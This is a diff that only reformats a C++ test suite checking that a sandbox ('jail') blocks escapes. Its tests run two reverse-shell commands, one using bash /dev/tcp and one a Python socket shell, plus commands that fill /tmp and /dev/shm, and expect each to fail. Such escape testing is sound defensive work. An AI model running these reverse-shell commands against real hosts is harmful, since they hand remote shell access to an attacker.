@@ -43,7 +43,8 @@ std::vector<std::string> hostAddresses() {
     for (auto* i = list; i; i = i->ifa_next) {
         if (!i->ifa_addr || i->ifa_addr->sa_family != AF_INET) continue;
         char buf[INET_ADDRSTRLEN];
-        ::inet_ntop(AF_INET, &reinterpret_cast<sockaddr_in*>(i->ifa_addr)->sin_addr, buf, sizeof buf);
+        ::inet_ntop(AF_INET, &reinterpret_cast<sockaddr_in*>(i->ifa_addr)->sin_addr, buf,
+                    sizeof buf);
         out.push_back(buf);
     }
     ::freeifaddrs(list);
@@ -52,7 +53,7 @@ std::vector<std::string> hostAddresses() {
 
 // A host service on 0.0.0.0 that must never see a connection from the jail.
 class HostListener {
-public:
+  public:
     HostListener() : fd_(::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0)) {
         sockaddr_in addr{};
         addr.sin_family = AF_INET;
@@ -72,13 +73,13 @@ public:
         return c >= 0;
     }
 
-private:
+  private:
     int fd_;
     int port_ = 0;
 };
 
 class JailAttack : public ::testing::Test {
-protected:
+  protected:
     void SetUp() override {
         NIXJAIL_REQUIRE_JAIL();
         root_ = std::make_unique<testing::TestRoot>(executor_);
@@ -146,7 +147,8 @@ TEST_F(JailAttack, HostTcpListenerIsUnreachableOnEveryHostAddress) {
     auto port = std::to_string(listener.port());
     for (const auto& ip : hostAddresses()) {
         auto verdict = attack({"connect", ip, port});
-        // 127.0.0.1 is the jail's own loopback, where nothing listens; other addresses have no route.
+        // 127.0.0.1 is the jail's own loopback, where nothing listens; other addresses have no
+        // route.
         if (ip.rfind("127.", 0) == 0) {
             EXPECT_EQ(verdict, "ECONNREFUSED\n") << ip;
         } else {
@@ -274,8 +276,10 @@ TEST_F(JailAttack, FillingTmpEndsInEnospcAndTheJailSurvives) {
     s.limits.memory_max_bytes = 128ull << 20;
     auto jail = executor_.prepare(s);
     std::string out;
-    auto r = run(*jail, {"sh", "-c", "cat /dev/zero > /tmp/fill; echo $?; cat /dev/zero > /dev/shm/fill; echo $?"},
-                 &out);
+    auto r = run(
+        *jail,
+        {"sh", "-c", "cat /dev/zero > /tmp/fill; echo $?; cat /dev/zero > /dev/shm/fill; echo $?"},
+        &out);
     EXPECT_FALSE(r.oom_killed);
     EXPECT_EQ(r.exit_code, 0) << r.setup_error;
     EXPECT_NE(out.find("No space left on device"), std::string::npos) << out;
@@ -288,15 +292,17 @@ TEST_F(JailAttack, ReverseShellCannotConnectOut) {
     for (const auto& ip : hostAddresses()) {
         auto jail = executor_.prepare(spec());
         std::string out;
-        auto r = run(*jail, {"bash", "-c", "bash -i >& /dev/tcp/" + ip + "/" + port + " 0>&1"}, &out);
+        auto r =
+            run(*jail, {"bash", "-c", "bash -i >& /dev/tcp/" + ip + "/" + port + " 0>&1"}, &out);
         EXPECT_NE(r.exit_code, 0) << ip;
         EXPECT_TRUE(out.find("Connection refused") != std::string::npos ||
                     out.find("Network is unreachable") != std::string::npos)
             << out;
         out.clear();
-        r = run(*jail, {"python3", "-c",
-                        "import socket,subprocess\ns = socket.create_connection(('" + ip + "', " +
-                            port + "), timeout=5)\nsubprocess.call(['/bin/sh', '-i'], stdin=s, stdout=s)"},
+        r = run(*jail,
+                {"python3", "-c",
+                 "import socket,subprocess\ns = socket.create_connection(('" + ip + "', " + port +
+                     "), timeout=5)\nsubprocess.call(['/bin/sh', '-i'], stdin=s, stdout=s)"},
                 &out);
         EXPECT_NE(r.exit_code, 0) << ip;
         EXPECT_TRUE(out.find("ConnectionRefusedError") != std::string::npos ||
@@ -337,7 +343,8 @@ TEST_F(JailAttack, NothingLeaksAfterTheJailIsGone) {
         slow.timeout = std::chrono::milliseconds(200);
         EXPECT_TRUE(jail->run(slow).timed_out);
         out.clear();
-        run(*jail, {"sh", "-c", "for n in net pid mnt user; do readlink /proc/self/ns/$n; done"}, &out);
+        run(*jail, {"sh", "-c", "for n in net pid mnt user; do readlink /proc/self/ns/$n; done"},
+            &out);
         for (const auto& h : ns::CgroupLayout::detect().hierarchies) {
             for (const auto& p : fs::directory_iterator(h.parent)) {
                 if (p.path().filename().string().find(s.job_id) != std::string::npos) {
@@ -360,7 +367,8 @@ TEST_F(JailAttack, NothingLeaksAfterTheJailIsGone) {
     EXPECT_EQ(seen, 4) << out;
     EXPECT_EQ(mountTable(), mountsBefore);
     for (const auto& e : fs::directory_iterator(fs::temp_directory_path())) {
-        EXPECT_EQ(e.path().filename().string().find(ns::cgroupSafeName(s.job_id)), std::string::npos)
+        EXPECT_EQ(e.path().filename().string().find(ns::cgroupSafeName(s.job_id)),
+                  std::string::npos)
             << e.path();
     }
 }
@@ -368,7 +376,8 @@ TEST_F(JailAttack, NothingLeaksAfterTheJailIsGone) {
 // Prints the summary line the security suite promises, after gtest's own.
 class SummaryPrinter : public ::testing::EmptyTestEventListener {
     void OnTestProgramEnd(const ::testing::UnitTest& unit) override {
-        std::printf("%d passed, %d failed\n", unit.successful_test_count(), unit.failed_test_count());
+        std::printf("%d passed, %d failed\n", unit.successful_test_count(),
+                    unit.failed_test_count());
         std::fflush(stdout);
     }
 };
